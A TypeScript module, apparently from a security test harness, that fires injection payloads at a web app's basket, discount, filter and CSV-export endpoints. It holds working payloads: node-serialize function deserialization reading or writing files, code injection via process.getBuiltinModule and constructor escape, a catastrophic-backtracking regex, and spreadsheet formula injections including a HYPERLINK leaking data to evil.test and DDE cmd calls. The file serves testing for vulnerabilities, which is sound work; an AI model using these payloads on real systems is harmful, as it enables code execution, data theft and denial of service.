import { parse } from 'csv-parse/sync';
import type { Attack, Place } from './attack.ts';
import { createClient } from './client.ts';
import { arm, effectOf, holdOf } from './effect.ts';
import { someone } from './person.ts';
import { answerOf, request, shownOf } from './request.ts';

const place = { group: 'Parsers', part: 'parse', fixed: true } as const;
const rules = (name: string) => ({ code: [{ file: 'rules.ts', name }] });

const basket: Place = {
  ...{ ...place, endpoint: 'POST basket saved', ...rules("app.post('/basket'") },
  async fire(app, range, payload) {
    const armed = arm(app, payload);
    return effectOf(app, await request(app, 'POST', 'basket', { saved: armed.payload }), range, armed);
  },
};

const discount: Place = {
  ...{ ...place, endpoint: 'POST discount rule', ...rules("app.post('/discount'") },
  async fire(app, range, payload) {
    const armed = arm(app, payload);
    return effectOf(app, await request(app, 'POST', 'discount', { rule: armed.payload }), range, armed);
  },
};

const filter: Place = {
  ...{ ...place, slow: true, endpoint: 'GET filter pattern', ...rules("app.get('/filter'") },
  fire: (app, range, payload) =>
    holdOf(app, () => request(app, 'GET', `filter?${new URLSearchParams({ pattern: payload })}`), range),
};

/** What a spreadsheet runs: a cell that begins so, and is no number. */
const isFormula = (cell: string): boolean =>
  /^[\t\r\n ]*[=+\-@]/.test(cell) && !/^[+-]?[\d .,()-]+$/.test(cell);

const spreadsheet: Place = {
  ...{ group: 'Parsers', part: 'parse', endpoint: 'GET customers.csv name', code: [{ file: 'export.ts' }] },
  async fire(app, { look }, payload) {
    const { email, password } = someone();
    await createClient(app).post('users', {
      ...{ email, password, name: payload, bio: 'Sails.', website: 'https://example.com/' },
    });
    const reply = await request(app, 'GET', 'customers.csv');
    await app.tidy();
    // The accountant opens the file: each cell is what a spreadsheet takes it for.
    const cells = (parse(reply.body, { relax_column_count: true }) as string[][]).flat();
    return {
      ...{ answer: answerOf(reply), ...shownOf(reply, look) },
      ...(cells.some(isFormula) && { lost: "a formula runs in the accountant's spreadsheet" }),
    };
  },
};

export const rulePlaces: readonly Place[] = [basket, discount, filter, spreadsheet];

const run = "process.getBuiltinModule('node:fs')";

/** Text that something evaluates. */
export function ruleAttacks(): Attack[] {
  const own = { guide: false, kind: 'code' };
  return [
    {
      ...{ ...basket, ...own, guide: true, name: 'a function in the data' },
      payload: `{"items":"_$$ND_FUNC$$_function () { require('fs').writeFileSync('CANARY', '') }()"}`,
    },
    {
      ...{ ...basket, ...own, name: 'a file in the data' },
      payload: `{"items":"_$$ND_FUNC$$_function () { return require('fs').readFileSync('SECRET', 'utf8') }()"}`,
    },
    { ...discount, ...own, name: 'code in a rule', payload: `${run}.writeFileSync('CANARY', '')` },
    { ...discount, ...own, name: 'a file by a rule', payload: `${run}.readFileSync('SECRET', 'utf8')` },
    {
      ...{ ...discount, ...own, name: 'out by the constructor' },
      payload: `order.constructor.constructor("return process")().getBuiltinModule('node:fs').writeFileSync('CANARY', '')`,
    },
    { ...filter, ...own, name: 'a pattern that never ends', kind: 'dos', payload: '^(.+)+(.+)+!$' },
    ...[
      ['a link that carries data away', '=HYPERLINK("https://evil.test/?"&A2,"Invoice")'],
      ['a program by an old channel', "@SUM(1+1)*cmd|' /C calc'!A0"],
      ['a number that is none', "-2+3+cmd|' /C calc'!A0"],
      ['behind a tab', '\t=1+1'],
    ].map(([name = '', payload = '']) => ({ ...spreadsheet, ...own, kind: 'formula', name, payload })),
  ];
}
